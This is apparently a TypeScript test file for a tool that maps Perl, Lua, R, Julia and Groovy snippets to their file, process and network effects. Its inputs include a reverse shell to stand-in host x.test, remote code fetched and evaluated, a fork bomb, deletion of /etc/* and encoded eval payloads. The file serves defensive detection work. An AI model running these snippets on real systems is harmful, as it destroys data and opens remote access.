// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the code under test has placeholders of its own
import { describe, expect, test } from "vitest";
import { codeLines, given } from "./code-lines.ts";

const P = "/home/dev/project";
const gone = (...names: readonly string[]) => names.map((name) => `delete remove ${P}/${name}`);
const ran = (line: string) => [`code inline sh ${line}`, `run ${line}`];

const perl: readonly (readonly [string, readonly string[]])[] = [
  ["unlink 'a', \"b\";", gone("a", "b")],
  ["my $x = 'a'; $x .= 'b'; unlink(\"$x.c\");", gone("ab.c")],
  ["my @a = ('a', 'b'); unlink @a; unlink $a[1]; unlink \"$a[0]x\";", gone("a", "b", "b", "ax")],
  ["my %h = (k => 'a'); unlink $h{k}; unlink $h{'k'};", gone("a", "a")],
  ["unlink q{a}, qq(b), qw/c d/;", gone("a", "b", "c", "d")],
  ["unlink join('-', 'a', 'b'); unlink reverse('ba'); unlink lc('A'); unlink chr(97); unlink sprintf('%s%d', 'a', 1);", gone("a-b", "ab", "a", "a", "a1")],
  ["unlink $ENV{HOME} . '/a';", ["delete remove /home/dev/a"]],
  ["unlink glob('/etc/*');", ["delete remove /etc/*"]],
  ["unlink for ('a', 'b');", gone()],
  ["unlink $_ for ('a', 'b'); foreach my $f ('c') { unlink $f }", gone("a", "b", "c")],
  ["rmtree('a'); rename 'b', 'c';", [`${gone("a")[0]} all`, `delete move-away ${P}/b`, `write truncate ${P}/c`]],
  ["open(my $f, '>', 'a'); print $f 'hi'; open(F, '>>b'); open F, '<', 'c';", [`write truncate ${P}/a = hi`, `write append ${P}/b`, `read content ${P}/c`]],
  ["system 'rm a';", [...ran("rm a"), ...gone("a")]],
  ["system('rm', 'a') if $x; exec {'x'} 'y';", ["run rm a", ...gone("a")]],
  ["my $o = `rm a`; my $p = qx{rm b};", [...ran("rm a"), ...gone("a"), ...ran("rm b"), ...gone("b")]],
  ["open(P, '|rm a'); open(my $q, 'rm b|'); open(my $r, '-|', 'rm', 'c');", [...ran("rm a"), ...gone("a"), ...ran("rm b"), ...gone("b"), "run rm c", ...gone("c")].slice(0, 6)],
  ["eval 'unlink \"a\"';", ['code inline perl unlink "a"', ...gone("a")]],
  ["use MIME::Base64; eval decode_base64('dW5saW5rICJhIg==');", ['code decoded perl unlink "a"', ...gone("a")]],
  ["eval pack('H*', '756e6c696e6b20226122');", ['code decoded perl unlink "a"', ...gone("a")]],
  ["s/x/unlink 'a'/e;", gone("a")],
  ["sub f { my ($p, $q) = @_; unlink $p . $q } f('a', 'b');", gone("ab")],
  ["sub f { my $p = shift; unlink $p }", []],
  ["sub f { my $p = shift; unlink $p } f('a');", gone("a")],
  ["if ($x =~ /a/) { unlink 'a' } elsif ($y) { unlink 'b' } else { unlink 'c' }", gone("a", "b", "c")],
  ["unless (-e 'x') { unlink 'a' } while (<STDIN>) { unlink 'b' }", gone("a", "b")],
  ["my $x = $y ? 'a' : 'b'; unlink $x; unlink $z || 'c';", gone("a", "b", "c")],
  ["chmod 0777, 'a', 'b';", ["a", "b"].map((name) => `permission world-writable ${P}/${name} 777`)],
  ["fork while 1;", ["system fork-bomb"]],
  ["use LWP::Simple; eval get('https://x.test/a');", ["fetch x.test", "code remote perl ?"]],
  ["my $s = IO::Socket::INET->new(PeerAddr => 'x.test:1'); open(STDIN, '>&', $s); exec('/bin/sh -i');", ["network connect x.test:1"].map(() => "network connect x.test").concat("network reverse-shell")],
  ["print 'rm -rf /'; # unlink 'a'\n=pod\n\nunlink 'b';\n\n=cut\nprint <<EOF;\nunlink 'c';\nEOF\nunlink <<'X' . 'd';\nX\n", gone("d")],
  ["print \"$_\\n\" for sort keys %h; my ($a, $b) = split /,/, $x; $h{$1}++ if m{a/b};", []],
  ["map { unlink $_ } ('a', 'b'); BEGIN { unlink 'c' } do { unlink 'd' };", gone("a", "b", "c", "d")],
  ["my $r = { k => ['a', 'b'] }; unlink $r->{k}->[1]; my $f = sub { unlink 'c' }; $f->();", gone("b", "c")],
]; // biome-ignore format: one table

describe("Perl code", () => {
  test.each(perl)("%s", (code, lines) => {
    expect(codeLines(given("perl", code)).slice(0, lines.length || undefined)).toEqual(lines);
  });
});

const others: readonly (readonly [string, string, readonly string[]])[] = [
  ["lua", "os.remove('a' .. \"b\")", gone("ab")],
  ["lua", "local f = io.open('a', 'w')\nf:write('hi')\nf:close()", [`write truncate ${P}/a = hi`]],
  ["lua", "os.execute [[rm a]]", [...ran("rm a"), ...gone("a")]],
  ["lua", "load('os.remove(\"a\")')()", ['code inline lua os.remove("a")', ...gone("a")]],
  ["lua", "for i = 1, 3 do\n  os.remove('a')\nend\nif x then os.remove('b') else os.remove('c') end -- os.remove('d')", gone("a", "b", "c")],
  ["lua", "local function f(p)\n  os.remove(p)\nend\nf('a')", gone("a")],
  ["Rscript -", "unlink('a', recursive = TRUE)", [`${gone("a")[0]} all`]],
  ["Rscript -", "x <- paste0('a', 'b')\nfile.remove(x)\nsystem2('rm', c('c'))", [...gone("ab"), "code inline sh rm c", "run rm c", ...gone("c")]],
  ["julia", "rm(\"a\", recursive=true)\nrun(`rm b`)", [`${gone("a")[0]} all`, ...ran("rm b"), ...gone("b")]],
  ["groovy", "'rm a'.execute()\nnew File('b').delete()", [...ran("rm a"), ...gone("a", "b")]],
]; // biome-ignore format: one table

describe("Lua, R, Julia and Groovy code", () => {
  test.each(others)("%s: %s", (interpreter, code, lines) => {
    expect(codeLines(given(interpreter, code))).toEqual(lines);
  });
});
